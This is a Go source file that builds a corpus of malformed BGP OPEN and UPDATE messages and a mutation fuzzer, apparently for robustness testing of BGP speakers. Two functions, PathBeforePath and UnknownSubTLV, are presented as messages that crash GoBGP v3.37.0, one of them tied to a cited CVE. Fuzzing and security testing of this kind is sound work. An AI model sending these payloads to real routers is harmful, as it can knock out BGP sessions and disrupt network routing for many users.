package hostile

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"time"
)

// Phase is when an item is sent.
type Phase int

// The phases.
const (
	Established Phase = iota // in a session that is up
	AsOpen                   // in place of the OPEN
)

// Item is one attack.
type Item struct {
	Name      string
	Phase     Phase
	TwoOctets bool // the session's AS numbers have two octets
	After     time.Duration
	Bytes     []byte
}

// PathBeforePath is an UPDATE with AS4_PATH before AS_PATH, which GoBGP v3.37.0 does not survive from a neighbour with 2-octet
// AS numbers: it deletes AS4_PATH from the list and then writes to where AS_PATH was before (table/message.go).
func PathBeforePath(asn uint16) Item {
	attrs := join(attribute(transitive, origin, 0), attribute(transitive, nextHop, 10, 0, 0, 1),
		attribute(optional|transitive, as4Path, 2, 1, 0, 0, byte(asn>>8), byte(asn)), attribute(transitive, asPath, 2, 1, byte(asn>>8), byte(asn)))
	return Item{Name: "AS4_PATH before AS_PATH", TwoOctets: true, Bytes: update(nil, attrs, prefix("192.0.2.0/24"))}
}

// UnknownSubTLV is an UPDATE with an SRv6 service TLV in Prefix-SID (RFC 8669, RFC 9252) that holds a sub-TLV of unknown
// type: GoBGP v3.37.0 goes on in the wrong buffer behind it (prefix_sid.go, CVE-2026-7734).
func UnknownSubTLV(asn uint32) Item {
	// TLV 5, its length, a reserved octet, and a sub-TLV of type 99.
	tlv := []byte{5, 0, 8, 0, 99, 0, 4, 1, 2, 3, 4}
	return Item{Name: "Prefix-SID with an unknown SRv6 sub-TLV", Bytes: valid(asn, attribute(optional|transitive, prefixSID, tlv...))}
}

// valid is an UPDATE of 192.0.2.0/24 with 4-octet AS numbers and further attributes behind the mandatory ones.
func valid(asn uint32, more ...[]byte) []byte {
	return update(nil, join(base(asn), join(more...)), prefix("192.0.2.0/24"))
}

func base(asn uint32) []byte {
	return join(attribute(transitive, origin, 0), path(asn), attribute(transitive, nextHop, 10, 0, 0, 1))
}

func path(asns ...uint32) []byte {
	value := []byte{2, byte(len(asns))}
	for _, a := range asns {
		value = append(value, byte(a>>24), byte(a>>16), byte(a>>8), byte(a))
	}
	return attribute(transitive, asPath, value...)
}

// Corpus are malformed OPENs and UPDATEs of the given speaker; a name says what is wrong. Those in Deadly are not in it as
// they are, but some are deadly in the same way: see Survivable.
func Corpus(p Peer) []Item {
	return slices.Concat(headers(p), opens(p), updates(p.ASN), attributes(p.ASN), multiprotocol(p.ASN))
}

// headers are messages whose header is wrong.
func headers(p Peer) []Item {
	ok := valid(p.ASN)
	badMark := bytes.Clone(ok)
	badMark[3] = 0
	return []Item{
		{Name: "bad marker", Bytes: badMark},
		{Name: "length 0", Bytes: raw(marker(), 0, Update, nil)},
		{Name: "length 18", Bytes: raw(marker(), 18, Update, nil)},
		{Name: "length 4097", Bytes: raw(marker(), maxLen+1, Update, make([]byte, maxLen+1-headerLen))},
		{Name: "length 65535", Bytes: raw(marker(), 65535, Update, make([]byte, 65535-headerLen))},
		{Name: "length short of UPDATE's minimum", Bytes: raw(marker(), 22, Update, []byte{0, 0, 0})},
		{Name: "KEEPALIVE with a body", Bytes: Message(Keepalive, 1, 2, 3)},
		{Name: "NOTIFICATION without a body", Bytes: Message(Notification)},
		{Name: "NOTIFICATION of unknown code", Bytes: Message(Notification, 255, 255)},
		{Name: "CEASE with an endless reason", Bytes: Message(Notification, 6, 2, 255, 'x')},
		{Name: "ROUTE-REFRESH without a body", Bytes: Message(Refresh)},
		{Name: "ROUTE-REFRESH of an unknown family", Bytes: Message(Refresh, 255, 255, 255, 255)},
		{Name: "ROUTE-REFRESH with ORF rubbish", Bytes: Message(Refresh, 0, 1, 0, 1, 1, 64, 255, 255, 0)},
	}
}

// opens come in place of the OPEN.
func opens(p Peer) []Item {
	with := func(name string, b []byte) Item { return Item{Name: "OPEN " + name, Phase: AsOpen, Bytes: b} }
	version := p.Open()
	version[headerLen] = 3
	hold := p
	hold.HoldTime = 1
	id := p
	id.RouterID = netip.IPv4Unspecified()
	as := p
	as.ASN, as.TwoOctets = 0, true
	return []Item{
		with("missing: KEEPALIVE first", Message(Keepalive)),
		with("missing: UPDATE first", valid(p.ASN)),
		with("missing: rubbish", []byte("GET / HTTP/1.1\r\nHost: example.net\r\n\r\n")),
		with("without a body", Message(Open)),
		with("cut short", p.Open()[:headerLen+5]),
		with("of a short length", raw(marker(), headerLen+9, Open, p.Open()[headerLen:headerLen+9])),
		with("of version 3", version),
		with("with hold time 1", hold.Open()),
		with("with router ID 0", id.Open()),
		with("with AS 0", as.Open()),
		with("with parameters longer than it is", p.openRaw(255, []byte{2, 6, 1, 4, 0, 1, 0, 1})),
		with("with parameters shorter than they are", p.openRaw(1, []byte{2, 6, 1, 4, 0, 1, 0, 1})),
		with("with a cut parameter", p.openRaw(1, []byte{2})),
		with("with an unknown parameter", p.openRaw(4, []byte{99, 2, 1, 2})),
		with("with an empty parameter", p.openRaw(2, []byte{2, 0})),
		with("with a capability longer than its parameter", p.openWith([]byte{1, 200, 0, 1, 0, 1})),
		with("with a cut capability", p.openWith([]byte{65})),
		with("with empty capabilities", p.openWith([]byte{1, 0, 2, 0, 5, 0, 6, 0, 64, 0, 65, 0, 69, 0, 70, 0, 71, 0, 73, 0, 75, 0})),
		with("with a short 4-octet AS capability", p.openWith([]byte{65, 2, 0, 1})),
		with("with a short graceful restart", p.openWith([]byte{64, 1, 0})),
		with("with a cut family in graceful restart", p.openWith([]byte{64, 4, 0, 0, 0, 1})),
		with("with a short FQDN", p.openWith([]byte{73, 3, 200, 'a', 'b'})),
		with("with a cut software version", p.openWith([]byte{75, 2, 200, 'x'})),
		with("with a cut add-path", p.openWith([]byte{69, 3, 0, 1, 1})),
		with("with a cut extended next hop", p.openWith([]byte{5, 5, 0, 1, 0, 1, 0})),
		with("with a cut long-lived graceful restart", p.openWith([]byte{71, 6, 0, 1, 1, 0, 0, 0})),
		with("with the extended length of RFC 9072 cut", p.openRaw(255, []byte{255, 0, 4, 2, 0})),
		with("with 60 times the same capability", p.openWith(bytes.Repeat([]byte{1, 2, 0, 1}, 60))),
	}
}

// updates are UPDATEs whose parts do not fit together.
func updates(asn uint32) []Item {
	ok := valid(asn)
	nlri := func(b ...byte) []byte { return update(nil, base(asn), b) }
	var out []Item
	for n := headerLen + 4; n < len(ok); n += 3 {
		out = append(out, Item{Name: fmt.Sprintf("UPDATE cut to %d octets", n), Bytes: raw(marker(), uint16(n), Update, ok[headerLen:n])})
	}
	return append(out,
		Item{Name: "withdrawn routes longer than the message", Bytes: Message(Update, 255, 255, 0, 0)},
		Item{Name: "attributes longer than the message", Bytes: Message(Update, 0, 0, 255, 255)},
		Item{Name: "attributes that end one octet late", Bytes: Message(Update, append([]byte{0, 0, 0, byte(len(base(asn)) + 1)}, base(asn)...)...)},
		Item{Name: "withdrawn prefix of length 33", Bytes: update([]byte{33, 1, 2, 3, 4, 5}, nil, nil)},
		Item{Name: "withdrawn prefix cut", Bytes: update([]byte{32, 1, 2}, nil, nil)},
		Item{Name: "prefix of length 33", Bytes: nlri(33, 1, 2, 3, 4, 5)},
		Item{Name: "prefix of length 255", Bytes: nlri(255, 1, 2, 3, 4)},
		Item{Name: "prefix cut", Bytes: nlri(32, 1, 2)},
		Item{Name: "prefix with bits behind its length", Bytes: nlri(9, 10, 255)},
		Item{Name: "prefix of class D", Bytes: nlri(24, 224, 0, 0)},
		Item{Name: "prefix without attributes", Bytes: update(nil, nil, prefix("192.0.2.0/24"))},
		Item{Name: "attributes without a prefix", Bytes: update(nil, base(asn), nil)},
		Item{Name: "4096 octets of prefixes", Bytes: nlri(slices.Repeat(prefix("192.0.2.1/32"), (maxLen-headerLen-4-len(base(asn)))/5)...)},
		Item{Name: "4096 octets of default routes", Bytes: nlri(make([]byte, maxLen-headerLen-4-len(base(asn)))...)},
	)
}

// attributes are UPDATEs with one bad attribute.
func attributes(asn uint32) []Item {
	var out []Item
	add := func(name string, attrs ...[]byte) { out = append(out, Item{Name: name, Bytes: valid(asn, attrs...)}) }
	alone := func(name string, attrs ...[]byte) {
		out = append(out, Item{Name: name, Bytes: update(nil, join(attrs...), prefix("192.0.2.0/24"))})
	}
	o, p, n := attribute(transitive, origin, 0), path(asn), attribute(transitive, nextHop, 10, 0, 0, 1)
	for kind := range byte(64) {
		for _, size := range []int{0, 1, 3, 5, 255} {
			alone(fmt.Sprintf("attribute %d of %d octets", kind, size), o, p, n, attribute(optional|transitive, kind, slices.Repeat([]byte{1}, size)...))
		}
	}
	alone("no ORIGIN", p, n)
	alone("no AS_PATH", o, n)
	alone("no NEXT_HOP", o, p)
	alone("ORIGIN 3", attribute(transitive, origin, 3), p, n)
	alone("ORIGIN with wrong flags", attribute(optional, origin, 0), p, n)
	alone("attributes twice", o, p, n, o, p, n)
	add("attribute cut in its header", []byte{transitive})
	add("attribute cut in its length", []byte{optional | extended, med, 0})
	add("attribute longer than the rest", []byte{optional, med, 200, 0})
	add("unknown well-known attribute", attribute(transitive, unknownOptional, 1))
	add("unknown optional attribute", attribute(optional|transitive|partial, unknownOptional, 1, 2))
	add("unknown optional attribute twice", attribute(optional|transitive, unknownOptional, 1), attribute(optional|transitive, unknownOptional, 2))
	for _, h := range [][]byte{{0, 0, 0, 0}, {255, 255, 255, 255}, {127, 0, 0, 1}, {224, 0, 0, 1}, {1, 2, 3}, {1, 2, 3, 4, 5}} {
		alone(fmt.Sprintf("NEXT_HOP %v", h), o, p, attribute(transitive, nextHop, h...))
	}
	for name, v := range map[string][]byte{
		"of an unknown segment": {9, 1, 0, 0, 0, 1}, "with an empty segment": {2, 0}, "longer than it is": {2, 200, 0, 0, 0, 1},
		"with half an AS": {2, 1, 0, 0}, "cut in the segment's header": {2}, "of a confederation": {3, 1, 0, 0, 0, 1}, "with AS 0": {2, 1, 0, 0, 0, 0},
		"with AS_TRANS": {2, 1, 0, 0, 0x5b, 0xa0},
	} {
		alone("AS_PATH "+name, o, attribute(transitive, asPath, v...), n)
		add("AS4_PATH "+name, attribute(optional|transitive, as4Path, v...))
	}
	alone("AS_PATH of 900 ASes", o, attribute(transitive, asPath, slices.Repeat(append([]byte{2, 255}, bytes.Repeat([]byte{0, 0, 0, 1}, 255)...), 3)...), n)
	alone("AS_PATH in sets", o, attribute(transitive, asPath, slices.Repeat([]byte{1, 1, 0, 0, 0, 1}, 100)...), n)
	add("AGGREGATOR of 6 octets", attribute(optional|transitive, aggregator, 0, 1, 1, 2, 3, 4))
	add("AGGREGATOR of AS 0", attribute(optional|transitive, aggregator, make([]byte, 8)...))
	add("AS4_AGGREGATOR alone", attribute(optional|transitive, as4Aggregator, 0, 1, 0, 0, 1, 2, 3, 4))
	add("AS4_AGGREGATOR first", attribute(optional|transitive, as4Aggregator, 0, 1, 0, 0, 1, 2, 3, 4), attribute(optional|transitive, aggregator, 0, 0, 0x5b, 0xa0, 1, 2, 3, 4))
	add("ATOMIC_AGGREGATE with a value", attribute(transitive, atomicAggregate, 1))
	add("LOCAL_PREF from outside", attribute(transitive, localPref, 0, 0, 0, 1))
	add("ORIGINATOR_ID and CLUSTER_LIST from outside", attribute(optional, originator, 1, 2, 3, 4), attribute(optional, clusterList, 1, 2, 3, 4))
	add("900 communities", attribute(optional|transitive, community, slices.Repeat([]byte{1, 2, 3, 4}, 900)...))
	add("450 extended communities", attribute(optional|transitive, extCommunity, slices.Repeat([]byte{255, 255, 3, 4, 5, 6, 7, 8}, 450)...))
	add("300 large communities", attribute(optional|transitive, largeCommunity, slices.Repeat([]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}, 300)...))
	add("AIGP with a bad TLV", attribute(optional, aigp, 1, 0, 200, 1))
	add("AIGP with a TLV of length 0", attribute(optional, aigp, 1, 0, 0, 1, 0, 0))
	add("tunnel encapsulation cut", attribute(optional|transitive, tunnelEncap, 0, 8, 0, 200, 1))
	add("tunnel encapsulation with a bad sub-TLV", attribute(optional|transitive, tunnelEncap, 0, 8, 0, 3, 1, 200, 1))
	add("Prefix-SID with a TLV of length 0", attribute(optional|transitive, prefixSID, 5, 0, 0))
	add("Prefix-SID with a cut sub-TLV", attribute(optional|transitive, prefixSID, 5, 0, 4, 0, 1, 0, 200))
	add("Prefix-SID with an empty SID", attribute(optional|transitive, prefixSID, 5, 0, 4, 0, 1, 0, 0))
	add("Prefix-SID with a cut structure", attribute(optional|transitive, prefixSID, append([]byte{5, 0, 28, 0, 1, 0, 24, 0}, append(make([]byte, 21), 1, 0)...)...))
	return out
}

// multiprotocol are attributes of RFC 4760 that are odd.
func multiprotocol(asn uint32) []Item {
	var out []Item
	pre := join(attribute(transitive, origin, 0), path(asn))
	add := func(name string, kind byte, v ...byte) {
		out = append(out, Item{Name: name, Bytes: update(nil, join(pre, attribute(optional, kind, v...)), nil)})
	}
	v6 := prefix("2001:db8::/32")
	for _, n := range []int{0, 1, 4, 12, 15, 16, 17, 24, 31, 32, 33, 48, 255} {
		hop := slices.Repeat([]byte{0xfd}, n)
		add(fmt.Sprintf("MP_REACH with a next hop of %d octets", n), mpReach, join([]byte{0, 2, 1, byte(n)}, hop, []byte{0}, v6)...)
		add(fmt.Sprintf("MP_REACH of IPv4 with a next hop of %d octets", n), mpReach, join([]byte{0, 1, 1, byte(n)}, hop, []byte{0}, prefix("192.0.2.0/24"))...)
		add(fmt.Sprintf("MP_REACH with a next hop that says %d octets", n), mpReach, join([]byte{0, 2, 1, byte(n), 1, 2, 3, 4, 0}, v6)...)
	}
	hop := append([]byte{16}, slices.Repeat([]byte{0xfd}, 16)...)
	add("MP_REACH empty", mpReach)
	add("MP_REACH of three octets", mpReach, 0, 2, 1)
	add("MP_REACH without prefixes", mpReach, join([]byte{0, 2, 1}, hop, []byte{0})...)
	add("MP_REACH without the reserved octet", mpReach, join([]byte{0, 2, 1}, hop)...)
	add("MP_REACH with SNPA rubbish", mpReach, join([]byte{0, 2, 1}, hop, []byte{200, 1}, v6)...)
	add("MP_REACH with a prefix of length 129", mpReach, join([]byte{0, 2, 1}, hop, []byte{0, 129, 1, 2, 3})...)
	add("MP_REACH with a cut prefix", mpReach, join([]byte{0, 2, 1}, hop, []byte{0, 128, 1})...)
	add("MP_UNREACH empty", mpUnreach)
	add("MP_UNREACH with a prefix of length 129", mpUnreach, 0, 2, 1, 129, 1, 2)
	for _, f := range [][3]byte{{0, 1, 2}, {0, 1, 4}, {0, 1, 128}, {0, 1, 132}, {0, 1, 133}, {0, 2, 4}, {0, 2, 128}, {0, 2, 133}, {0, 25, 65}, {0, 25, 70}, {0x40, 4, 71}, {0x40, 8, 241}, {0, 1, 73}, {0, 0, 0}, {255, 255, 255}} {
		name := fmt.Sprintf("of family %d/%d", uint16(f[0])<<8|uint16(f[1]), f[2])
		for _, n := range []int{0, 1, 2, 5, 24} {
			rest := slices.Repeat([]byte{byte(n)}, n)
			add(fmt.Sprintf("MP_REACH %s with %d octets", name, n), mpReach, join(f[:], hop, []byte{0}, rest)...)
			add(fmt.Sprintf("MP_UNREACH %s with %d octets", name, n), mpUnreach, join(f[:], rest)...)
		}
	}
	return out
}

// Mutations are n UPDATEs made of valid and odd ones by chance. Its header stays whole: else nothing but that would be read.
func Mutations(p Peer, seed uint64, n int) []Item {
	rng := rand.New(rand.NewPCG(seed, 0))
	corpus := slices.DeleteFunc(append(Corpus(p), PathBeforePath(uint16(p.ASN)), UnknownSubTLV(p.ASN)), func(i Item) bool {
		return i.Phase != Established || len(i.Bytes) < headerLen+4 || len(i.Bytes) > maxLen || i.Bytes[18] != Update
	})
	out := make([]Item, n)
	for k := range out {
		from := corpus[rng.IntN(len(corpus))]
		body := bytes.Clone(from.Bytes[headerLen:])
		for range 1 + rng.IntN(4) {
			body = mutate(rng, body)
		}
		body = body[:min(len(body), maxLen-headerLen)]
		out[k] = Item{Name: fmt.Sprintf("seed %d, number %d, of %q", seed, k, from.Name), TwoOctets: rng.IntN(2) == 0, Bytes: Message(Update, body...)}
	}
	return out
}

func mutate(rng *rand.Rand, b []byte) []byte {
	if len(b) == 0 {
		return []byte{byte(rng.Uint32())}
	}
	at := rng.IntN(len(b))
	switch rng.IntN(5) {
	case 0:
		b[at] = byte(rng.Uint32())
	case 1:
		b[at] ^= 1 << rng.IntN(8)
	case 2:
		b[at] = []byte{0, 1, 127, 128, 255}[rng.IntN(5)]
	case 3:
		b = slices.Delete(b, at, min(at+1+rng.IntN(4), len(b)))
	case 4:
		b = slices.Insert(b, at, b[at:min(at+1+rng.IntN(16), len(b))]...)
	}
	return b
}
